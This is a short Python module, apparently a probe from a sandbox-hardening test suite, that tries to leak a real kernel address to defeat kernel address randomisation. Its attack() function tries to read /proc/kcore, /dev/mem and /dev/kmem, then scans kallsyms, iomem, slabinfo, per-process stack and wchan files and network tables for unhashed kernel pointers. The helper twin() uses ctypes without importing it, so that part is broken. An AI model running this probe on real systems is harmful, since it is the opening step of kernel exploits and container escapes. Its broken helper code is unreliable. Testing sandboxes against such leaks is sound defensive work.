"""Learn where in memory the kernel lies.

Technique: one real address undoes the kernel's address randomisation, the first step of every exploit. Looks at
    kallsyms, modules, stacks, wchan, iomem, timer_list, tables of sockets, slabs, /proc/kcore, /dev/mem, and at what
    sysctls reveal.
Success: a kernel address that is neither zero nor hashed, or a file that is the kernel's memory.
Stopped by: no_capabilities, root_filesystem
"""
import re

ADDRESS = re.compile(r"\bffff[0-9a-f]{12}\b")


def attack():
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"):
        try:
            with open(path, "rb") as memory:
                return f"{path}: {memory.read(8)!r}"
        except OSError:
            pass
    paths = ["kallsyms", "modules", "timer_list", "iomem", "vmallocinfo", "slabinfo", "sched_debug", "latency_stats", "pagetypeinfo", "kpageflags"]
    paths += [f"{pid}/{name}" for pid in ("self", "1") for name in ("stack", "wchan", "syscall", "stat", "status", "maps")]
    paths += [f"net/{name}" for name in ("unix", "tcp", "tcp6", "udp", "netlink", "packet", "raw", "ptype", "icmp")]
    for path in paths:
        try:
            with open(f"/proc/{path}", errors="replace") as lines:
                for line in lines:
                    # An address range of all ones, the old vsyscall page, is the same on every machine.
                    found = ADDRESS.search(line)
                    if found and not found[0].startswith("ffffffffff6") and found[0] != "f" * 16:
                        return f"/proc/{path}: {line.strip()}"
        except OSError:
            pass


def twin():
    """Addresses of one's own are there: debuggers, profilers and JITs use them."""
    with open("/proc/self/maps") as maps:
        ranges = [tuple(int(end, 16) for end in line.split()[0].split("-")) for line in maps]
    here = ctypes.addressof(ctypes.create_string_buffer(8))
    assert any(begin <= here < end for begin, end in ranges)
